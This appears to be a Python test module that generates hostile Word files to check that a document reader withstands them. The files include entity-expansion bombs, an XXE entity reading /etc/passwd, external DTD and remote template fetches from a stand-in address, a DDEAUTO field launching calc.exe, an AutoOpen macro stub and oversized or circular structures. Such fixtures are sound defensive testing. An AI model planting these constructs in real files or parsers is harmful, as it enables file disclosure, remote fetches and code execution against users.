"""Word files of entities, cycles, depths and sizes that no word processor writes."""

from __future__ import annotations

from tests.hostile.archives import zipped
from tests.hostile.hostile import FULL, HELD, PARTIAL, Hostile
from tests.hostile.ole import ole_file
from tests.reading.word_file import (
    NAMESPACES,
    W,
    cell,
    definition,
    level,
    listed,
    p,
    package,
    r,
    row,
    style,
    table,
    use,
    word_file,
)

DOCTYPE = "document type declaration"
_MAIN = "word/document.xml"
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_RELATION = '<Relationship Id="r%d" Type="a/%s" Target="%s" %s/>'
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships">%s</Relationships>'
)
AGREED = p("We agree.")


def _document(xml: str | bytes, **parts: str | bytes) -> bytes:
    """Zip a document.xml as it is, with further parts by their names."""
    return package({"[Content_Types].xml": _TYPES, _MAIN: xml, **parts})


def _body(content: str) -> str:
    return f'<w:document xmlns:w="{W}"><w:body>{content}</w:body></w:document>'


def _laughs() -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    doctype = f'<!DOCTYPE w [<!ENTITY l0 "ha">{levels}]>'
    return doctype + _body(p(r("X")).replace("X", "&l11;"))


def _outside() -> bytes:
    """Hide the declaration of a file from who looks for it in single bytes."""
    doctype = '<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    xml = '<?xml version="1.0" encoding="UTF-16"?>' + doctype + _body(AGREED)
    return xml.replace("agree", "&e;").encode("utf-16")


def _empty(count: int) -> bytes:
    head, tail = _body("|").split("|")
    return zipped(
        {
            "[Content_Types].xml": _TYPES.encode(),
            _MAIN: head.encode() + b"<w:p/>" * count + tail.encode(),
        },
        level=1,
    )


def _styles_in_circles() -> bytes:
    def based(name: str, on: str) -> str:
        return (
            f'<w:style w:type="paragraph" w:styleId="{name}"><w:basedOn w:val="{on}"/>'
            f'<w:link w:val="{on}"/><w:next w:val="{name}"/></w:style>'
        )

    return word_file(
        p("We agree.", properties=style("A")),
        p("They agree.", properties=style("C")),
        styles=based("A", "B") + based("B", "A") + based("C", "C"),
    )


def _numbers_in_circles() -> bytes:
    """Let lists be defined by styles that are numbered by these lists."""
    linked = "".join(
        f'<w:abstractNum w:abstractNumId="{n}"><w:numStyleLink w:val="S{n}"/>'
        f'<w:styleLink w:val="S{3 - n}"/></w:abstractNum>'
        for n in (1, 2)
    )
    styles = "".join(
        f'<w:style w:type="numbering" w:styleId="S{n}"><w:pPr>{listed(3 - n)}</w:pPr>'
        "</w:style>"
        for n in (1, 2)
    )
    return word_file(
        p("We agree.", properties=listed(1)),
        p("They agree.", properties=listed(2)),
        numbering=linked + use(1, of=1) + use(2, of=2),
        styles=styles,
    )


def _parts_in_circles() -> bytes:
    kinds = ("header", "comments", "footnotes", "styles", "numbering", "officeDocument")
    relations = _RELATIONS % "".join(
        _RELATION % (n, kind, "document.xml", "") for n, kind in enumerate(kinds)
    )
    return _document(_body(AGREED), **{"word/_rels/document.xml.rels": relations})


def _comments_in_circles() -> bytes:
    def comment(number: int) -> str:
        return (
            f'<w:comment w:id="{number}"><w:p w14:paraId="{number}">'
            "<w:r><w:t>Why?</w:t></w:r>"
            f'<w:r><w:commentReference w:id="{number}"/></w:r></w:p></w:comment>'
        )

    def answers(one: int, other: int) -> str:
        return f'<w15:commentEx w15:paraId="{one}" w15:paraIdParent="{other}"/>'

    return word_file(
        p(
            '<w:commentRangeStart w:id="1"/>',
            "We agree.",
            '<w:commentRangeEnd w:id="1"/>',
        ),
        comments=comment(1) + comment(2) + comment(3),
        commentsExtended=answers(1, 1) + answers(2, 3) + answers(3, 2),
    )


def _open_comments() -> bytes:
    """Open thousands of comments on thousands of paragraphs and close none."""
    return word_file(
        "".join(f'<w:commentRangeStart w:id="{n}"/>' for n in range(2_000)),
        AGREED * 2_000,
        comments="".join(
            f'<w:comment w:id="{n}">{p("?")}</w:comment>' for n in range(9)
        ),
    )


def _tables(depth: int) -> str:
    start = "<w:tbl><w:tr><w:tc>"
    return start * depth + AGREED + "</w:tc></w:tr></w:tbl>" * depth


def _wide_table() -> str:
    span = '<w:gridSpan w:val="999999999"/><w:vMerge w:val="restart"/>'
    return table(*[row(cell("We agree.", properties=span)) for _ in range(3)])


def _numbers_that_grow() -> bytes:
    """Start a list at two billion, in Roman figures and in letters."""
    start = '<w:start w:val="2147483647"/>'
    return word_file(
        p("We agree.", properties=listed(1)),
        p("They agree.", properties=listed(2, 8)),
        numbering=definition(1, level(0, "%1.", "upperRoman", start))
        + definition(2, level(8, "%9" * 200, "lowerLetter", start))
        + use(1, of=1)
        + use(2, of=2),
    )


def _with_code() -> bytes:
    return _document(
        _body(AGREED + p(r(" DDEAUTO c:\\\\windows\\\\calc.exe ", tag="instrText"))),
        **{
            "word/vbaProject.bin": ole_file({"VBA": b"Sub AutoOpen()"}),
            "word/embeddings/oleObject1.bin": ole_file(
                {"\1Ole10Native": b"MZ" * 3_000}
            ),
            "word/_rels/document.xml.rels": _RELATIONS
            % (
                _RELATION % (1, "attachedTemplate", "http://192.0.2.1/t.dotm", "")
                + _RELATION
                % (2, "image", "file://192.0.2.1/x.png", 'TargetMode="External"')
            ),
        },
    )


HOSTILE = (
    Hostile(
        name="Word: entities that multiply",
        file="a.docx",
        make=lambda: _document(_laughs()),
        read=HELD,
        why=DOCTYPE,
    ),
    Hostile(
        name="Word: an entity that is a file of ours, in UTF-16",
        file="a.docx",
        make=lambda: _document(_outside()),
        read=HELD,
        why=DOCTYPE,
    ),
    Hostile(
        name="Word: a declaration to be fetched, in a part that is read late",
        file="a.docx",
        make=lambda: _document(
            _body(AGREED),
            **{
                "word/_rels/document.xml.rels": '<!DOCTYPE r SYSTEM "http://192.0.2.1/">'
                + _RELATIONS % ""
            },
        ),
        read=HELD,
        why=DOCTYPE,
    ),
    Hostile(
        name="Word: 30 million empty paragraphs",
        file="a.docx",
        make=lambda: _empty(30_000_000),
        read=HELD,
        why="grows far beyond its size",
    ),
    Hostile(
        name="Word: half a million empty paragraphs, which are let through",
        file="a.docx",
        make=lambda: _empty(500_000),
    ),
    Hostile(
        name="Word: elements 100,000 deep",
        file="a.docx",
        make=lambda: _document(_body("<w:sdt>" * 100_000 + AGREED)),
        read=PARTIAL,
        why="damaged",
    ),
    Hostile(
        name="Word: tables 80 deep",
        file="a.docx",
        make=lambda: word_file(_tables(80)),
        words="We agree.",
    ),
    Hostile(
        name="Word: an attribute of 15 MB",
        file="a.docx",
        make=lambda: zipped(
            {
                "[Content_Types].xml": _TYPES.encode(),
                _MAIN: _body(f'{AGREED}<w:p w:x="{"x" * 15_000_000}"/>').encode(),
            },
            level=0,
        ),
        read=PARTIAL,
        why="damaged",
        words="We agree.",
    ),
    Hostile(
        name="Word: styles based on each other",
        file="a.docx",
        make=_styles_in_circles,
        words="They agree.",
    ),
    Hostile(
        name="Word: lists defined by each other",
        file="a.docx",
        make=_numbers_in_circles,
        words="They agree.",
    ),
    Hostile(
        name="Word: all parts are the document itself",
        file="a.docx",
        make=_parts_in_circles,
        words="We agree.",
    ),
    Hostile(
        name="Word: comments that answer themselves",
        file="a.docx",
        make=_comments_in_circles,
        words="Why?",
    ),
    Hostile(
        name="Word: 2,000 comments open on 2,000 paragraphs",
        file="a.docx",
        make=_open_comments,
        words="We agree.",
    ),
    Hostile(
        name="Word: cells as wide as a thousand million columns",
        file="a.docx",
        make=lambda: word_file(_wide_table()),
        words="We agree.",
    ),
    Hostile(
        name="Word: numbers of two thousand million",
        file="a.docx",
        make=_numbers_that_grow,
        words="They agree.",
    ),
    Hostile(
        name="Word: half a character, which no XML has",
        file="a.docx",
        make=lambda: _document(_body(AGREED + p(r("a")).replace(">a<", ">&#xD800;<"))),
        read=PARTIAL,
        why="damaged",
        words="We agree.",
    ),
    Hostile(
        name="Word: macros, a program, a remote template",
        file="a.docm",
        make=_with_code,
        words="We agree.",
    ),
    Hostile(
        name="Word: another file inserted",
        file="a.docx",
        make=lambda: word_file(
            AGREED, f'<w:altChunk xmlns:r="{NAMESPACES["r"]}" r:id="r9"/>'
        ),
        read=PARTIAL,
        why="inserted",
        words="We agree.",
    ),
    Hostile(
        name="Word: protected by a password",
        file="a.docx",
        make=lambda: ole_file(
            {"EncryptionInfo": b"\4", "EncryptedPackage": b"x" * 5_000}
        ),
        read=HELD,
        why="password",
    ),
    Hostile(
        name="Word: a document that is none",
        file="a.docx",
        make=lambda: _document("<html/>"),
        read=HELD,
        why="not what its name says",
    ),
    Hostile(
        name="Word: alternatives in alternatives, as deep as XML goes",
        file="a.docx",
        make=lambda: word_file(
            "<mc:AlternateContent><mc:Choice>" * 100
            + AGREED
            + "</mc:Choice></mc:AlternateContent>" * 100
        ),
        read=FULL,
        words="We agree.",
    ),
)
